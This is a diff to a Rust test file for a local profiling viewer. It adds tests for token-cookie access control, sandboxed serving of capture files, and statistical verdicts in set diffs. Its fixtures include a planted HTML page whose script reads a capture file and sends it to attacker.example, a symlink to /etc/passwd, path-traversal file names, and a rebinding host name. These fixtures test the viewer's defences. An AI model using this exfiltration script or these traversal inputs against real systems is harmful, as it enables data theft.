@@ -1,11 +1,14 @@
 //! The viewer's rules, on a store made of real capture files: only files a manifest lists
 //! are served, nothing in a URL walks out of the store, other host names are refused, and
-//! the pages show what the catalog and `devprof diff`'s code compute.
+//! the pages show what the catalog and `devprof diff`'s code compute. Nothing is served
+//! without the token, and a capture's files are served sandboxed.
 
 use super::library::Library;
-use super::routes::{percent_decode, respond, Policy, Request, Response, Route, Viewer};
+use super::routes::{percent_decode, respond, Policy, Request, Response, Route, Token, Viewer};
 use crate::profile::diff::{compare, Measure};
-use crate::store::{ContainerRecord, FileRecord, Manifest};
+use crate::profile::folded::Folded;
+use crate::profile::stat_diff::functions::{compare_sets, Direction, WindowCounts};
+use crate::store::{ContainerRecord, FileRecord, Manifest, PartRecord};
 use std::fs;
 use std::path::{Path, PathBuf};
 
@@ -13,6 +16,16 @@ const PORT: u16 = 4242;
 const OLDER: &str = "perf-20261122-101500";
 const NEWER: &str = "perf-20261122-101600";
 const SESSION: &str = "session-20261122-101700";
+/// An async-profiler page as a target's JVM could write it: its script reaches for the
+/// page around it and the viewer's other files.
+const ASPROF_HTML: &str = "<!DOCTYPE html><html><body><script>\
+    fetch('/file/demo-seq/perf-20261122-101600/perf-20261122-101600.folded')\
+    .then(r => r.text()).then(t => parent.location = 'http://attacker.example/?' + t);\
+    </script></body></html>";
+
+fn token() -> Token {
+    Token::from_bytes(&[0x5a; 32])
+}
 
 fn data(name: &str) -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR"))
@@ -71,6 +84,7 @@ fn store() -> (tempfile::TempDir, Viewer) {
     )
     .unwrap();
     std::os::unix::fs::symlink("/etc/passwd", dir.join("passwd.svg")).unwrap();
+    fs::write(dir.join(format!("{OLDER}.asprof.html")), ASPROF_HTML).unwrap();
     capture(
         &dir,
         OLDER,
@@ -78,6 +92,7 @@ fn store() -> (tempfile::TempDir, Viewer) {
         "cpu-demo-seq.folded",
         &[
             &format!("{OLDER}.markers"),
+            &format!("{OLDER}.asprof.html"),
             "passwd.svg",
             "../outside.txt",
             "/etc/passwd",
@@ -111,11 +126,19 @@ fn store() -> (tempfile::TempDir, Viewer) {
     let viewer = Viewer {
         library: Library::new(out),
         port: PORT,
+        token: token(),
     };
     (root, viewer)
 }
 
-fn get_as(viewer: &Viewer, method: &str, target: &str, host: Option<&str>) -> Response {
+/// A request with the given Host and Cookie headers.
+fn request(
+    viewer: &Viewer,
+    method: &str,
+    target: &str,
+    host: Option<&str>,
+    cookie: Option<&str>,
+) -> Response {
     let (path, query) = target.split_once('?').unwrap_or((target, ""));
     respond(
         viewer,
@@ -124,8 +147,23 @@ fn get_as(viewer: &Viewer, method: &str, target: &str, host: Option<&str>) -> Re
             path,
             query,
             host,
+            cookie,
         },
     )
+}
+
+/// The viewer's cookie, as a browser sends it back (beside a cookie of another site's).
+fn cookie() -> String {
+    format!(
+        "theme=dark; {}={}",
+        Token::cookie_name(PORT),
+        token().as_str()
+    )
+}
+
+/// A request from a browser that has the token's cookie.
+fn get_as(viewer: &Viewer, method: &str, target: &str, host: Option<&str>) -> Response {
+    request(viewer, method, target, host, Some(&cookie()))
 }
 
 fn get(viewer: &Viewer, target: &str) -> Response {
@@ -337,4 +375,397 @@ fn the_start_page_is_a_session_a_capture_or_a_container() {
         "/?container=demo-seq"
     );
     assert!(library.start_page("op-reth").is_err());
+}
+
+/// The response's headers as the server sends them.
+fn headers(response: Response) -> hyper::HeaderMap {
+    super::http_response(response, false).headers().clone()
+}
+
+fn header(headers: &hyper::HeaderMap, name: &str) -> String {
+    headers
+        .get(name)
+        .map(|v| v.to_str().unwrap().to_string())
+        .unwrap_or_default()
+}
+
+#[test]
+fn a_planted_html_artifact_is_served_sandboxed_and_framed_sandboxed() {
+    let (_root, viewer) = store();
+    let planted = get(
+        &viewer,
+        &format!("/file/demo-seq/{OLDER}/{OLDER}.asprof.html"),
+    );
+    assert_eq!(
+        (planted.status, planted.content_type),
+        (200, "text/html; charset=utf-8")
+    );
+    assert_eq!(text(&planted), ASPROF_HTML);
+    let sent = headers(planted);
+    let policy = header(&sent, "content-security-policy");
+    // An opaque origin: its script runs (flamegraphs zoom and search) but reads nothing of
+    // the viewer's, and may load nothing.
+    assert!(policy.starts_with("sandbox allow-scripts;"), "{policy}");
+    assert!(!policy.contains("allow-same-origin"), "{policy}");
+    assert!(policy.contains("default-src 'none'"), "{policy}");
+    assert_eq!(header(&sent, "x-content-type-options"), "nosniff");
+    // Every file of a capture, whatever its kind, and the drawings made from the store.
+    for target in [
+        format!("/file/demo-seq/{OLDER}/{OLDER}.svg"),
+        format!("/file/demo-seq/{OLDER}/{OLDER}.json"),
+        format!("/file/demo-seq/{OLDER}/{OLDER}.folded"),
+        format!("/file/demo-seq/{OLDER}/{OLDER}.markers"),
+        format!("/diff.svg?before=demo-seq%2F{OLDER}&after=demo-seq%2F{NEWER}"),
+        format!("/session/{SESSION}/table.svg"),
+    ] {
+        let response = get(&viewer, &target);
+        assert_eq!(response.status, 200, "{target}");
+        assert_eq!(response.policy, Policy::Artifact, "{target}");
+        let sent = headers(response);
+        assert!(
+            header(&sent, "content-security-policy").starts_with("sandbox allow-scripts;"),
+            "{target}"
+        );
+        assert_eq!(header(&sent, "x-content-type-options"), "nosniff");
+    }
+    // The viewer's own pages are not sandboxed (their script runs as the viewer's), and
+    // the frames they put the files in are.
+    let page = get(&viewer, &format!("/capture/demo-seq/{OLDER}/flamegraph"));
+    assert_eq!(page.policy, Policy::Viewer);
+    let body = text(&page);
+    let frames: Vec<&str> = body.split("<iframe").skip(1).collect();
+    assert!(!frames.is_empty());
+    for frame in frames {
+        let tag = &frame[..frame.find('>').unwrap()];
+        assert!(tag.contains(r#"sandbox="allow-scripts""#), "{tag}");
+        // Sized from the SVG's own height, as the page cannot read a sandboxed frame (a
+        // listed link is not read, so it has none).
+        assert_eq!(
+            tag.contains("data-height=\""),
+            tag.contains(&format!("/{OLDER}.svg\"")),
+            "{tag}"
+        );
+    }
+    let policy = header(&headers(page), "content-security-policy");
+    assert!(
+        !policy.contains("sandbox") && policy.contains("script-src 'self'"),
+        "{policy}"
+    );
+    let diff = text(&get(
+        &viewer,
+        &format!("/diff?before=demo-seq%2F{OLDER}&after=demo-seq%2F{NEWER}"),
+    ));
+    assert!(diff.contains(r#"id="diff-graph" sandbox="allow-scripts""#));
+}
+
+#[test]
+fn nothing_is_served_without_the_token() {
+    let (_root, viewer) = store();
+    let host = format!("127.0.0.1:{PORT}");
+    let store = viewer.library.output_dir().display().to_string();
+    let wrong = Token::from_bytes(&[0x5b; 32]);
+    let short = token().as_str()[..10].to_string();
+    for (target, cookie) in [
+        ("/".to_string(), None),
+        (format!("/file/demo-seq/{OLDER}/{OLDER}.folded"), None),
+        ("/static/app.js".to_string(), None),
+        (format!("/?token={}", wrong.as_str()), None),
+        (format!("/?token={short}"), None),
+        ("/?token=".to_string(), None),
+        (
+            "/".to_string(),
+            Some(format!("{}={}", Token::cookie_name(PORT), wrong.as_str())),
+        ),
+        // The cookie of a viewer on another port.
+        (
+            "/".to_string(),
+            Some(format!(
+                "{}={}",
+                Token::cookie_name(PORT + 1),
+                token().as_str()
+            )),
+        ),
+        // The token under another cookie's name.
+        ("/".to_string(), Some(format!("token={}", token().as_str()))),
+    ] {
+        let refused = request(&viewer, "GET", &target, Some(&host), cookie.as_deref());
+        assert_eq!(refused.status, 403, "{target} {cookie:?}");
+        let body = text(&refused);
+        assert!(
+            body.contains("open the URL `devprof view` printed"),
+            "{body}"
+        );
+        assert!(!body.contains(&store) && !body.contains(OLDER));
+        assert_eq!(refused.set_cookie, None);
+    }
+    // The URL devprof printed: served, and the cookie set for the pages it leads to.
+    let first = request(
+        &viewer,
+        "GET",
+        &format!("/?container=demo-seq&token={}", token().as_str()),
+        Some(&host),
+        None,
+    );
+    assert_eq!(first.status, 200);
+    assert!(text(&first).contains(&format!(r#"data-id="demo-seq/{OLDER}""#)));
+    let set = header(&headers(first), "set-cookie");
+    assert_eq!(
+        set,
+        format!(
+            "{}={}; HttpOnly; SameSite=Strict; Path=/",
+            Token::cookie_name(PORT),
+            token().as_str()
+        )
+    );
+    // Then the cookie alone, as the browser sends it back with the pages' links.
+    let cookie = set.split(';').next().unwrap().to_string();
+    for target in [
+        format!("/capture/demo-seq/{OLDER}"),
+        format!("/file/demo-seq/{OLDER}/{OLDER}.folded"),
+        "/static/app.js".to_string(),
+    ] {
+        let served = request(&viewer, "GET", &target, Some(&host), Some(&cookie));
+        assert_eq!(served.status, 200, "{target}");
+        assert_eq!(served.set_cookie, None);
+    }
+    // The host check comes first: the right token from another name is still refused.
+    let rebound = request(
+        &viewer,
+        "GET",
+        &format!("/?token={}", token().as_str()),
+        Some(&format!("attacker.example:{PORT}")),
+        None,
+    );
+    assert_eq!(rebound.status, 403);
+    assert_eq!(rebound.set_cookie, None);
+}
+
+#[test]
+fn a_token_matches_only_itself_and_each_run_draws_a_new_one() {
+    let token = token();
+    assert!(token.matches(&"5a".repeat(32)));
+    assert!(!token.matches(&"5a".repeat(31)));
+    assert!(!token.matches(&format!("{}5b", "5a".repeat(31))));
+    assert!(!token.matches(&"5A".repeat(32)));
+    assert!(!token.matches(""));
+    assert_eq!(format!("{token:?}"), "Token(..)");
+    let (a, b) = (super::fresh_token().unwrap(), super::fresh_token().unwrap());
+    assert_eq!(a.as_str().len(), 2 * super::TOKEN_BYTES);
+    assert!(a.as_str().bytes().all(|c| c.is_ascii_hexdigit()));
+    assert_ne!(a.as_str(), b.as_str());
+    assert_eq!(
+        super::url_with_token(4242, "/", &token),
+        format!("http://127.0.0.1:4242/?token={}", token.as_str())
+    );
+    assert_eq!(
+        super::url_with_token(4242, "/?container=demo-seq", &token),
+        format!(
+            "http://127.0.0.1:4242/?container=demo-seq&token={}",
+            token.as_str()
+        )
+    );
+}
+
+/// A window of 1 s: `hot` self samples in hot_fn, `rest` in other, 50 in third.
+fn window_text(hot: u64, rest: u64) -> String {
+    format!("t;main;hot_fn {hot}\nt;main;other {rest}\nt;main;third 50\n")
+}
+
+/// A capture set (`cpu --repeat K`) named `name`: one part per window, each 1 s, and the
+/// whole capture their sum, listed in its manifest as `devprof cpu --repeat` lists them.
+fn set_capture(dir: &Path, name: &str, created: &str, windows: &[String]) {
+    let mut files = vec![format!("{name}.folded")];
+    let mut parts = Vec::new();
+    let mut whole = String::new();
+    for (i, text) in windows.iter().enumerate() {
+        let folded = format!("{name}.part{}.folded", i + 1);
+        fs::write(dir.join(&folded), text).unwrap();
+        whole.push_str(text);
+        parts.push(PartRecord {
+            index: i as u32 + 1,
+            start_s: i as f64,
+            duration_s: 1.0,
+            samples: Folded::from_folded_text(text).total(),
+            cpu_cores: 0.1,
+            folded: folded.clone(),
+            timeline: String::new(),
+        });
+        files.push(folded);
+    }
+    let whole = Folded::from_folded_text(&whole);
+    let mut text = String::new();
+    for line in whole.lines() {
+        text.push_str(&line);
+        text.push('\n');
+    }
+    fs::write(dir.join(format!("{name}.folded")), text).unwrap();
+    files.push(format!("{name}.json"));
+    let manifest = Manifest {
+        kind: "cpu".into(),
+        created: created.into(),
+        target: "demo-seq".into(),
+        container: ContainerRecord {
+            name: "demo-seq".into(),
+            ..Default::default()
+        },
+        sample_count: whole.total(),
+        duration_recorded_s: windows.len() as f64,
+        files: files
+            .into_iter()
+            .map(|name| FileRecord { name, bytes: 0 })
+            .collect(),
+        parts,
+        ..Default::default()
+    };
+    fs::write(
+        dir.join(format!("{name}.json")),
+        serde_json::to_string_pretty(&manifest).unwrap(),
+    )
+    .unwrap();
+}
+
+const BASE_SET: &str = "perf-20261126-150000";
+const HEAD_SET: &str = "perf-20261126-151000";
+const AGAIN_SET: &str = "perf-20261126-152000";
+
+/// The windows of three sets: a base, a head whose hot_fn does ~100 more samples a second
+/// in every window, and the base again with other noise.
+fn set_windows() -> [Vec<String>; 3] {
+    let noise: [i64; 5] = [0, 7, -5, 2, -4];
+    let w = |hot: i64, rest: i64| window_text(hot as u64, rest as u64);
+    [
+        noise.iter().map(|n| w(300 + n, 600 - n)).collect(),
+        noise.iter().map(|n| w(400 - n, 500 + n)).collect(),
+        [3, -6, 1, 5, -2]
+            .iter()
+            .map(|n| w(301 + n, 599 - n))
+            .collect(),
+    ]
+}
+
+fn store_with_sets() -> (tempfile::TempDir, Viewer) {
+    let root = tempfile::tempdir().unwrap();
+    let out = root.path().join("profiling");
+    let dir = out.join("demo-seq");
+    fs::create_dir_all(&dir).unwrap();
+    let [base, head, again] = set_windows();
+    set_capture(&dir, BASE_SET, "2026-11-26T15:00:00.000+00:00", &base);
+    set_capture(&dir, HEAD_SET, "2026-11-26T15:10:00.000+00:00", &head);
+    set_capture(&dir, AGAIN_SET, "2026-11-26T15:20:00.000+00:00", &again);
+    let viewer = Viewer {
+        library: Library::new(out),
+        port: PORT,
+        token: token(),
+    };
+    (root, viewer)
+}
+
+/// The rows of the page's set table: (class, verdict, function, change text).
+fn set_rows(page: &str) -> Vec<(String, String, String, String)> {
+    let table = &page[page.find(r#"id="set-functions""#).expect("a set table")..];
+    let body = &table[table.find("<tbody>").unwrap()..table.find("</tbody>").unwrap()];
+    let attr = |row: &str, name: &str| {
+        let at = row.find(&format!("{name}=\"")).unwrap() + name.len() + 2;
+        row[at..at + row[at..].find('"').unwrap()].to_string()
+    };
+    let inner = |row: &str, class: &str| {
+        let at = row.find(&format!("class=\"{class}\">")).unwrap() + class.len() + 9;
+        row[at..at + row[at..].find('<').unwrap()].to_string()
+    };
+    body.split("<tr ")
+        .skip(1)
+        .map(|row| {
+            (
+                attr(row, "class"),
+                attr(row, "data-verdict"),
+                inner(row, "fn"),
+                inner(row, "delta"),
+            )
+        })
+        .collect()
+}
+
+/// How many of a flamegraph's frames are filled with a colour other than the neutral grey
+/// inferno gives a differential frame that did not change.
+fn coloured_frames(svg: &str) -> usize {
+    let fills: Vec<&str> = svg
+        .split("<rect ")
+        .skip(1)
+        .filter_map(|r| r.split("fill=\"").nth(1)?.split('"').next())
+        .collect();
+    fills
+        .iter()
+        .filter(|f| f.starts_with("rgb(") && **f != "rgb(250,250,250)")
+        .count()
+}
+
+/// The viewer's diff of two capture sets once showed plain share deltas (`24.56 -> 18.62
+/// -5.93 state_lookup`) coloured by their sign, where `devprof diff` of the same sets said
+/// every function was within noise (Holm-corrected). It now shows the verdicts and
+/// intervals of `compare_sets`, the function `devprof diff` calls, and colours only the
+/// functions whose verdict stands out of the noise, in the table and in the flamegraph.
+#[test]
+fn a_diff_of_capture_sets_shows_the_clis_verdicts_not_share_deltas() {
+    let (_root, viewer) = store_with_sets();
+    let [base, head, again] = set_windows();
+    let counts = |texts: &[String]| -> Vec<WindowCounts> {
+        texts
+            .iter()
+            .map(|t| WindowCounts::of(&Folded::from_folded_text(t), Some(1.0)))
+            .collect()
+    };
+    let query = |after: &str| format!("before=demo-seq%2F{BASE_SET}&after=demo-seq%2F{after}");
+
+    // A real change: hot_fn regressed, other improved, third within noise.
+    let expected = compare_sets(&counts(&base), &counts(&head), 0.95);
+    let page = text(&get(&viewer, &format!("/diff?{}", query(HEAD_SET))));
+    assert!(!page.contains(r#"id="gains""#), "no plain share deltas");
+    assert!(page.contains("Holm-corrected over"), "{page}");
+    assert!(page.contains(r#"id="before-windows" data-windows="5""#));
+    let rows = set_rows(&page);
+    assert_eq!(rows.len(), expected.functions.len());
+    for (class, verdict, name, change) in &rows {
+        let f = expected.function(name).unwrap();
+        let json = serde_json::to_value(f.verdict).unwrap();
+        assert_eq!(verdict, json.as_str().unwrap(), "{name}");
+        let coloured = matches!(f.verdict, Direction::Regressed | Direction::Improved);
+        assert_eq!(class.is_empty(), !coloured, "{name}: {class}");
+        let ci = f.self_share.ci.unwrap();
+        assert_eq!(change, &format!("{:+.2} ±{ci:.2}", f.self_share.change));
+    }
+    let verdict_of = |name: &str| {
+        rows.iter()
+            .find(|r| r.2 == name)
+            .map(|r| (r.0.as_str(), r.1.as_str()))
+    };
+    assert_eq!(verdict_of("hot_fn"), Some(("regressed", "regressed")));
+    assert_eq!(verdict_of("other"), Some(("improved", "improved")));
+    assert_eq!(verdict_of("third"), Some(("", "within_noise")));
+    let svg = text(&get(&viewer, &format!("/diff.svg?{}", query(HEAD_SET))));
+    assert!(
+        svg.contains("coloured only where the change is significant at 95%"),
+        "{svg}"
+    );
+    assert!(coloured_frames(&svg) > 0);
+
+    // The same process measured again: shares move a little, the verdicts say noise, and
+    // nothing is coloured.
+    let expected = compare_sets(&counts(&base), &counts(&again), 0.95);
+    assert!(expected
+        .functions
+        .iter()
+        .all(|f| f.verdict == Direction::WithinNoise));
+    assert!(expected
+        .functions
+        .iter()
+        .any(|f| f.self_share.change != 0.0));
+    let page = text(&get(&viewer, &format!("/diff?{}", query(AGAIN_SET))));
+    let rows = set_rows(&page);
+    assert_eq!(rows.len(), expected.functions.len());
+    assert!(rows
+        .iter()
+        .all(|(class, verdict, _, _)| class.is_empty() && verdict == "within_noise"));
+    assert!(page.contains(r#"data-verdict="within_noise">samples per second:"#));
+    let svg = text(&get(&viewer, &format!("/diff.svg?{}", query(AGAIN_SET))));
+    assert_eq!(coloured_frames(&svg), 0, "within noise is drawn neutral");
 }
